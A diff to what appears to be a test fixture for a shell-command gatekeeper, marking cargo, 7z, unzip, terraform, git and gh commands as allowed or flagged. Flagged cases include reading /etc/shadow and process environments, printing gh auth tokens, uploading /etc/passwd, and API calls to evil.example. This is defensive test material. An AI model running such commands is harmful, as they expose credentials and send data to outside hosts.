@@ -25,3 +25,115 @@ cat /proc/self/environ
 cat /proc/cpuinfo/../self/environ
 # ruleid: GK-PROT-002
 cat /etc/shadow
+
+# -- cargo: reads of the manifest and the registry; nothing that compiles --------------------
+# ok: GK-UNKNOWN
+cargo tree --depth 2
+# ok: GK-UNKNOWN
+cargo metadata --format-version 1
+# ok: GK-UNKNOWN
+cargo search serde
+# ok: GK-UNKNOWN
+cargo build --help
+# ok: GK-UNKNOWN
+cargo help build
+# ruleid: GK-UNKNOWN
+cargo check
+# ruleid: GK-UNKNOWN
+cargo build --release
+# ruleid: GK-QUERY-002
+cargo tree --manifest-path /tmp/x/Cargo.toml
+# ruleid: GK-UNKNOWN
+cargo --config 'build.rustc-wrapper="x"' tree
+# ruleid: GK-UNKNOWN
+cargo install ripgrep
+
+# -- 7-Zip and unzip: list, test, hash ------------------------------------------------------
+# ok: GK-UNKNOWN
+7z l archive.7z
+# ok: GK-UNKNOWN
+7zz l -slt archive.7z
+# ok: GK-UNKNOWN
+7zz h -scrcSHA256 src/a.txt
+# ok: GK-PROT-004
+unzip -lv archive.zip
+# ok: GK-PROT-004
+unzip -tq archive.zip
+# ruleid: GK-PROT-004
+7z x archive.7z
+# ruleid: GK-UNKNOWN
+7z a out.7z src
+# ruleid: GK-PROT-002
+7z l ~/.ssh/keys.7z
+# ruleid: GK-UNKNOWN
+7z l -o/tmp archive.7z
+# ruleid: GK-PROT-004
+unzip -o archive.zip
+# ruleid: GK-BASH-002
+unzip -l ~/secret.zip
+
+# -- terraform: only what runs no provider and prints no state ------------------------------
+# ok: GK-UNKNOWN
+terraform workspace list
+# ok: GK-UNKNOWN
+terraform providers
+# ok: GK-UNKNOWN
+terraform metadata functions -json
+# ruleid: GK-UNKNOWN
+terraform plan
+# ruleid: GK-UNKNOWN
+terraform output -json
+# ruleid: GK-UNKNOWN
+terraform providers mirror ./providers
+
+# -- git listing forms of writing subcommands -----------------------------------------------
+# ok: GK-GIT-002
+git sparse-checkout list
+# ok: GK-GIT-002
+git lfs ls-files
+# ok: GK-GIT-002
+git replace -l
+# ruleid: GK-GIT-002
+git replace a b
+# ruleid: GK-GIT-002
+git sparse-checkout set src
+
+# -- gh: reads, help, and plain GETs of the API ---------------------------------------------
+# ok: GK-UNKNOWN
+gh status
+# ok: GK-UNKNOWN
+gh pr --help
+# ok: GK-UNKNOWN
+gh config get git_protocol
+# ok: GK-UNKNOWN
+gh gist view abc123 --raw
+# ok: GK-UNKNOWN
+gh run watch 12345
+# ok: GK-UNKNOWN
+gh api repos/owner/repo
+# ok: GK-UNKNOWN
+gh api -X GET search/issues -f q='repo:cli/cli'
+# ok: GK-UNKNOWN
+gh api --paginate -q '.[] | .name' repos/owner/repo/issues
+# ruleid: GK-UNKNOWN
+gh auth token
+# ruleid: GK-UNKNOWN
+gh config get oauth_token
+# ruleid: GK-UNKNOWN
+gh gist view abc123 --web
+# ruleid: GK-UNKNOWN
+gh api -f q='repo:cli/cli' search/issues
+# ruleid: GK-UNKNOWN
+gh api graphql -f query='mutation { x }'
+# ruleid: GK-UNKNOWN
+gh api -X DELETE repos/o/r
+# ruleid: GK-UNKNOWN
+gh api -F body=@/etc/passwd -X GET x
+# ruleid: GK-UNKNOWN
+gh api --input x.json repos/o/r
+# ruleid: GK-UNKNOWN
+gh api --hostname evil.example repos/o/r
+# ruleid: GK-UNKNOWN
+gh api https://evil.example/x
+# ruleid: GK-UNKNOWN
+gh browse
